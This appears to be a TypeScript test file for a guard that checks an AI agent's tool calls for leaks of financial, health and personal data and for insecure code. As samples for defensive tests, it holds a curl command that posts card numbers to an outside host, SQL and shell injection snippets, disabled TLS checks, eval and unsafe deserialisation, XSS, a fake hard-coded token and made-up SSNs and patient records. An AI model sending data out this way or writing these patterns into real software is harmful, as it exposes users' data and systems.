import { describe, expect, it } from "vitest";

import { createConstraintCheck, type ConstraintOptions, type ConstraintRule } from "../../src/constraints/index.ts";
import { redactSecrets } from "../../src/filters/index.ts";
import { NO_LABELS } from "../../src/labels/index.ts";
import type { CheckAnswer, JsonObject, Tool } from "../../src/spec/index.ts";
import { checkConformance, fakeTool } from "../../src/testing/index.ts";
import { expectConforming } from "../testing/run-cases.ts";

const findSecrets = (text: string): readonly string[] => redactSecrets(text).findings.map(({ kind }) => kind);
const all: ConstraintOptions = { domains: ["finance", "healthcare", "privacy"], code: true, findSecrets };
expectConforming(
  "createConstraintCheck()",
  checkConformance(() => createConstraintCheck(all)),
);

async function judge(tool: Partial<Tool>, args: JsonObject, options: ConstraintOptions = all): Promise<CheckAnswer> {
  // A fake tool takes any object.
  const made = fakeTool(tool as Parameters<typeof fakeTool>[0]) as Tool;
  const { signal } = new AbortController();
  const scope = { cwd: "/", sessionId: "s", agent: "main", labels: NO_LABELS, canAsk: true, signal };
  return await createConstraintCheck(options).check({ id: "c", tool: made, args, input: args }, scope);
}
const send = { name: "Mail", effect: "network" } as const;
const write = { name: "Write", effect: "write" } as const;
const bash = { name: "Bash", effect: "execute" } as const;

describe("finance", () => {
  it.each([
    "card 4111 1111 1111 1111",
    "5500-0055-5555-5559",
    "IBAN DE89 3704 0044 0532 0130 00",
    "GB82WEST12345698765432",
    "routing no. 021000021 111",
  ])("lets no financial data out: %s", async (body) => {
    expect(await judge(send, { body })).toMatchObject({ effect: "deny", rule: "finance.no_financial_data_leakage" });
    expect(await judge(bash, { command: `curl -d '${body}' https://x.example` })).toMatchObject({ effect: "deny" });
    expect((await judge({ name: "Look", effect: "read" }, { body })).effect).toBe("none");
  });

  it.each([
    "order 1234 5678 9012 3456",
    "4111 1111 1111 1112",
    "id 1700000000123456",
    "DE00 0000 0000 0000 0000 00",
    "12345",
  ])("takes no other number for it: %s", async (body) => {
    expect((await judge(send, { body })).effect).toBe("none");
  });

  it.each([
    [{ amount: 10_000 }, "ask"],
    [{ payment: { total: "12,500.00 USD" } }, "ask"],
    [{ lines: [{ amount: 1 }, { amount: -50_000 }] }, "ask"],
    [{ amount: "a lot" }, "ask"],
    [{ amount: 9_999 }, "none"],
    [{ amount: "1.234,50" }, "none"],
    [{ count: 50_000 }, "none"],
  ] as const)("asks about large transactions: %j is %s", async (args, effect) => {
    expect((await judge({ name: "Transfer", effect: "execute", sendsOut: false }, args)).effect).toBe(effect);
  });

  it("takes the host's own limit", async () => {
    expect((await judge(write, { amount: 200 }, { domains: ["finance"], largeAmount: 100 })).effect).toBe("ask");
  });
});

describe("healthcare and privacy", () => {
  it.each([
    "MRN: 12345678 has diabetes",
    "Patient John Smith was diagnosed with E11.9",
    "SSN 123-45-6789, prescription renewed",
    "DOB 1980-01-02, HIV test",
  ])("let no health data of a person out, and ask before it is written: %s", async (body) => {
    expect(await judge(send, { body })).toMatchObject({ effect: "deny", rule: "healthcare.hipaa_compliance" });
    expect(await judge(write, { file_path: "a.txt", content: body })).toMatchObject({
      effect: "ask",
      rule: "healthcare.patient_data_anonymization",
    });
  });

  it.each(["The treatment of missing values", "Patients should rest", "Diabetes is common", "call 555-1234"])(
    "leave alone: %s",
    async (body) => {
      expect((await judge(send, { body })).effect).toBe("none");
    },
  );

  it("ask before personal data goes out", async () => {
    expect(await judge(send, { body: "SSN 123-45-6789" })).toMatchObject({
      effect: "ask",
      rule: "privacy.respect_privacy",
    });
    expect(await judge(send, { body: "a@x.org, b@x.org, c@x.org" })).toMatchObject({ effect: "ask" });
    expect((await judge(send, { body: "write to a@x.org" })).effect).toBe("none");
    expect((await judge(send, { body: "000-12-3456 and 123-00-4567" })).effect).toBe("none");
  });
});

describe("code", () => {
  const of = async (content: string, file_path = "src/a.ts"): Promise<CheckAnswer> =>
    judge(write, { file_path, content });

  it.each([
    ["a template", "db.query(`SELECT * FROM users WHERE id = ${id}`)"],
    ["a sum", 'db.query("SELECT * FROM users WHERE name = \'" + name + "\'")'],
    ["an f-string", 'cur.execute(f"SELECT * FROM users WHERE id = {user_id}")'],
    ["an f-string of three quotes", 'cur.execute(f"""\n  DELETE FROM users WHERE id = {x}""")'],
    ["a % format", "cur.execute(\"SELECT * FROM users WHERE id = '%s'\" % name)"],
    ["format()", 'cur.execute("SELECT * FROM users WHERE id = {}".format(x))'],
    ["Sprintf", 'db.Query(fmt.Sprintf("SELECT * FROM users WHERE id = %s", id))'],
    ["PHP", '$db->query("SELECT * FROM users WHERE id = $id");'],
    ["Ruby", 'User.find_by_sql("SELECT * FROM users WHERE id = #{id}")'],
    ["C#", 'var q = $"UPDATE users SET name = {name}";'],
    ["Java", 'st.executeQuery("SELECT * FROM users WHERE id = " + id);'],
    ["an insert", 'db.run("INSERT INTO a VALUES (" + values + ")")'],
  ])("refuses injection-prone SQL in %s", async (_name, text) => {
    expect(await of(`const a = 1;\n${text}\n`)).toMatchObject({ effect: "deny", rule: "code.sql_injection" });
  });

  it.each([
    'db.query("SELECT * FROM users WHERE id = $1", [id])',
    'cur.execute("SELECT * FROM users WHERE id = %s", (user_id,))',
    "db.query(`SELECT * FROM users WHERE active = true`)",
    'db.prepare("SELECT * FROM users WHERE id = ?").get(id)',
    "const text = `Select a colour from ${list}`;",
    'log("selected " + count + " from the list")',
    'throw new Error("update failed: " + reason)',
    "exec('git status')",
    "subprocess.run(['git', 'status'])",
    "requests.get(url, verify=True)",
    "element.textContent = value;",
    'element.innerHTML = "";',
    "yaml.safe_load(text)",
    "sha256(file)",
  ])("leaves safe code alone: %s", async (text) => {
    expect(await of(text)).toMatchObject({ effect: "none" });
  });

  it.each([
    ["deny", "code.command_injection", "exec(`git log ${branch}`)"],
    ["deny", "code.command_injection", 'os.system("ping " + host)'],
    ["deny", "code.command_injection", "subprocess.run(cmd, shell=True)"],
    ["deny", "code.tls_verification_off", "requests.get(url, verify=False)"],
    ["deny", "code.tls_verification_off", "new Agent({ rejectUnauthorized: false })"],
    ["ask", "code.unsafe_eval", "eval(req.body.code)"],
    ["ask", "code.unsafe_deserialization", "pickle.loads(data)"],
    ["ask", "code.unsafe_deserialization", "yaml.load(text)"],
    ["ask", "code.cross_site_scripting", "box.innerHTML = location.hash;"],
    ["ask", "code.weak_password_hash", "hashlib.md5(password.encode())"],
  ] as const)("%s by %s: %s", async (effect, rule, text) => {
    expect(await of(text)).toMatchObject({ effect, rule });
  });

  it("refuses a secret in code, an edit and a command that writes a file; not in an example", async () => {
    const secret = `const key = "ghp_${"aZ3bY7cX1dW9eV5fU2gT8hS4iR6jQ0kPmNlL"}";`;
    expect(await of(secret)).toMatchObject({ effect: "deny", rule: "code.hard_coded_secret" });
    expect((await of(secret)).reason).not.toContain("ghp_");
    expect(
      await judge({ name: "Edit", effect: "write" }, { file_path: "a.py", old_string: "x", new_string: secret }),
    ).toMatchObject({ effect: "deny" });
    expect(await judge(bash, { command: `echo '${secret}' > a.js` })).toMatchObject({ effect: "deny" });
    expect((await judge(bash, { command: "ls" })).effect).toBe("none");
    expect((await of(secret, "docs/use.md")).effect).toBe("none");
  });
});

describe("formats", () => {
  const formats: ConstraintOptions = {
    formats: [
      { paths: ["*.json"], format: "json" },
      { paths: ["*.jsonl"], format: "jsonl" },
      { paths: ["*.yml"], format: "yaml" },
      { paths: ["*.toml"], format: "toml" },
      { paths: ["*.csv"], format: "csv" },
      { paths: ["CHANGES"], format: /^# /g },
      { paths: ["short.txt"], format: (text) => (text.length > 3 ? "too long" : undefined) },
    ],
  };
  it.each([
    ["a.json", "{", "deny"],
    ["a.json", '{"a":1}', "none"],
    ["a.jsonl", '{"a":1}\n{', "deny"],
    ["a.jsonl", '{"a":1}\n{}\n', "none"],
    ["a.yml", "a: [", "deny"],
    ["a.yml", "a: 1\na: 2", "deny"],
    ["a.yml", "a: 1", "none"],
    ["a.toml", "a = ", "deny"],
    ["a.toml", "a = 1", "none"],
    ["a.csv", "a,b\n1\n", "deny"],
    ["a.csv", 'a,b\n1,"2', "deny"],
    ["a.csv", 'a,b\n1,"x,\n""y"\n', "none"],
    ["CHANGES", "no heading", "deny"],
    ["CHANGES", "# heading", "none"],
    ["short.txt", "1234", "deny"],
    ["other", "{", "none"],
  ])("%s with %j is %s", async (file_path, content, effect) => {
    // Twice: a pattern must not remember where it stopped.
    for (let round = 0; round < 2; round += 1)
      expect((await judge(write, { file_path, content }, formats)).effect).toBe(effect);
  });

  it("look at whole files only", async () => {
    expect(
      (await judge({ name: "Edit", effect: "write" }, { file_path: "a.json", new_string: "{" }, formats)).effect,
    ).toBe("none");
  });
});

describe("createConstraintCheck()", () => {
  const rule = (
    severity: ConstraintRule["severity"],
    check: ConstraintRule["check"] = () => "no",
  ): ConstraintOptions => ({
    rules: [{ id: "own", severity, check }],
  });
  it.each([
    ["critical", "deny"],
    ["high", "ask"],
    ["medium", "ask"],
    ["low", "none"],
  ] as const)("makes of %s: %s", async (severity, effect) => {
    expect((await judge(write, {}, rule(severity))).effect).toBe(effect);
  });

  it("takes a rule that throws or answers nonsense for violated", async () => {
    const throwing = () => {
      throw new Error("broken");
    };
    expect((await judge(write, {}, rule("critical", throwing))).effect).toBe("deny");
    // As code without types would write it.
    expect((await judge(write, {}, rule("critical", (() => false) as never))).effect).toBe("deny");
  });

  it("lets a denial go before a question, and refuses an unknown domain", async () => {
    const rules: ConstraintOptions["rules"] = [
      { id: "asks", severity: "high", check: () => "x" },
      { id: "denies", severity: "critical", check: () => "y" },
    ];
    expect(await judge(write, {}, { rules })).toMatchObject({ effect: "deny", rule: "denies" });
    expect(() => createConstraintCheck({ domains: ["finanse" as "finance"] })).toThrow(/finance/);
  });
});
